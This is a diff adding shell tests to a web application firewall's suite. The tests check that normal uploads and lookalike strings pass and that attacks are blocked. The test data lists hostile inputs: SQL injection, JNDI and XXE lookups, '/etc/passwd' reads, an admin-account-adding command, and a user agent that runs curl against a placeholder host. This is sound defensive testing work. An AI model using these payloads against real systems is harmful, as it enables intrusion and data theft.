@@ -7755,6 +7755,117 @@ test_what_is_found_about_a_head_names_nothing_of_the_one_before() {
 	is "$(sed -n 2p found)" '1 scanner no-agent field '
 }
 
+test_uploads_of_browsers_and_programs_pass_waf() {
+	start -r /=200:x --waf block
+	form() {  # BOUNDARY, NAME, rest of the disposition, CONTENT, boundary as Content-Type has it
+		printf -- '--%s\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n--%s--\r\n' "$1" "$2" "$3" "$4" "$1" >form
+		code -H "Content-Type: multipart/form-data; boundary=${5:-$1}" --data-binary @form "$url/up"
+	}
+	for b in ----WebKitFormBoundary7MA4YWxkTrZu0gW ----geckoformboundary7f3a8e axios-1.7.2-boundary-abc123 ----formdata-undici-0123456789 \
+		----------------------------735323031399963166993862 0d6ad0c5e3c24dc1a5ec1ee9c2dbe4b5; do
+		is "$(form $b file '; filename="a.csv"' 'id,x')" 200 "the status for $b"
+		is "$(form $b note '' "x' or 1=1")" 403 "the status for an attack within $b"
+	done
+	is "$(form 'a b' q '' x '"a b"')$(form =_P q '' x '"=_P"')" 200200 'the status for a boundary in quotes'
+	for b in 'x; y=boundary=B' 'B; boundary=x' '' "$(printf %071d 0)" 'a"b' 'a b' '"a;b"' 'a\\b'; do
+		is "$(form B q '' x "${b:- }")" 403 "the status for boundary=$b"
+	done
+	page='<script>alert(1)</script>'
+	for n in file name username file_name; do is "$(form B $n '; filename="names.html"' "$page")" 200 "the status for a file in $n"; done
+	is "$(form B q '' "$page")$(form B q '; filename*=x' "$page")$(form B q '; name="f"; filename="x"' "$page")" 403403403
+	is "$(form B q '; filename="../../etc/passwd"' x)" 403
+}
+test_own_rules_hold_for_values_wherever_they_stand() {
+	i=0
+	while [ $i -lt 300 ]; do
+		i=$((i + 1))
+		echo "block param:p$i,value:w$i"
+	done >own
+	cat >>own <<-'END'
+	exempt param:note
+	block param:z,value:casino
+	block param:dnt,value:7
+	block param:user-agent,value:*badbot*
+	block value:forbidden
+	END
+	start_logged --log-format '%{rule}x' -r /=200:x --waf block,@own
+	at() { code -g "$@" "$url/"; }
+	a="x' or 1=1"
+	json='Content-Type: application/json'
+	is "$(at -F "note=$a")$(at -d "note=$a")$(at -b "note=$a")$(at -H "Note: $a")$(at -H "$json" -d "{\"note\":\"$a\"}")" 200200200200200
+	is "$(at -F "not=$a")$(at -d "not=$a")$(at -b "not=$a")$(at -H "Not: $a")$(at -H "$json" -d "{\"not\":\"$a\"}")" 403403403403403
+	is "$(at -F z=casino)$(at -d z=casino)$(at -b z=casino)$(at -H 'Z: casino')$(at -H "$json" -d '{"z":"casino"}')" 403403403403403
+	is "$(at -F z=other)$(at -d y=casino)" 200200
+	is "$(at -H 'DNT: 7')$(at -H 'DNT: 1')$(at -A 'Mozilla/5.0 BadBot')$(at -A 'Mozilla/5.0 (X11; Linux)')$(code "$url/forbidden")" 403200403200403
+	is "$(code "$url/?p299=w299")$(code "$url/?p299=w298")" 403200
+	logged 24
+	is "$(sed -n 23p log)" 'own line 299 query:p299 a000'
+}
+test_what_is_near_to_an_attack_passes_and_a_longer_one_does_not() {
+	start -r /=200:x --waf block
+	ask() { code -G --data-urlencode "q=$1" "$url/"; }
+	while read -r value; do
+		[ "$(ask "$value")" = 200 ] || fail "refused: $value"
+	done <<-'END'
+	"red shoes" or "blue shoes"
+	'red' or 'blue'
+	"a" and author="b"
+	data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==
+	/documents/123
+	/programs/2024
+	/sites/a
+	/logs/a
+	/dev/a
+	/phpinfo
+	/login?next=/app?tab=1
+	0.5/1
+	10.5/20
+	127.50/kg
+	http://1234abcd/x
+	[mail](contact.html), [open](https://x.example)
+	Rent; deposit=$500
+	| id | name | |----|------| | 1 | who |
+	webpack:///src/app.js
+	query IntrospectionQuery { __schema { types { name } } }
+	<math></math> <a href=http://x.example>x</a>
+	More or less; less is more; find it; kill it
+	If defined, it is the first of them
+	for 50 % in (2020 and 2021)
+	filters[tags][$in]=news
+	END
+	while read -r value; do
+		[ "$(ask "$(printf '%b' "$value")")" = 403 ] || fail "let pass: $value"
+	done <<-END
+	1 or a or a or a or a or a or a or a or a or a or a or 2>1
+	1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1 or 2>1
+	1 order by 9
+	1 order by 9-- -
+	1 having true-- -
+	1 div sleep(5)
+	it''s' or 'a'<'b
+	$(printf '$(a)%.0s' 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 40 41 42 43 44 45 46 47 48 49 50 51 52 53 54 55 56 57 58 59 60 61 62 63 64 65)\$(cat /etc/passwd)
+	\${\${$(printf 'a%0259d' 0):-j}ndi:ldap://x}
+	<!DOCTYPE a $(printf '%300s' '' | tr ' ' '\t') SYSTEM "http://x.example/y">
+	{{$(printf '%1100s' '' | tr ' ' '\t')7*7}}
+	/etc/passwd\t\n
+	(c:\\\\program files\\\\x
+	<a href="java&#0000000000000115;cript:alert(1)">
+	{% include '/etc/hosts' %}
+	FOR /F %G IN ('x') DO ECHO %G
+	IF NOT EXIST c:\\\\x del y
+	if %a% geq 2 goto x
+	x | net localgroup Administrators eve /ADD
+	1 union#x
+	1 and conv(version(),10,2)
+	/*!50000x*/
+	master..xp_cmdshell 'dir'
+	END
+	is "$(ask 'http://localhost:3000/cb')$(code -G --data-urlencode 'redirect_uri=http://localhost:3000/cb' "$url/")" 403200
+	is "$(code -b 'n=%u4f60%u597d%u3002' "$url/")$(code -b 'n=a%u200bb' "$url/")$(code -b 'n=%u002e%u002e/' "$url/")" 200200403
+	is "$(code "$url/item/8/**/AND/**/2=2")$(code "$url/item/8/AND/2")" 403200
+	for agent in 'Mozilla/5.0 (;curl http://x.example/y)' 'x (;cat /etc/passwd' 'l9explore/1.0'; do is "$(code -A "$agent" "$url/")" 403 "the status for $agent"; done
+	is "$(code -X POST -H 'Content-Type:' --data-binary '<svg onload=alert(1)>' "$url/")" 403
+}
 test_what_json_is_taken_apart_for_is_seen_at_each_place_and_by_each_processor() {
 	from_tree proxy.c
 	need cc
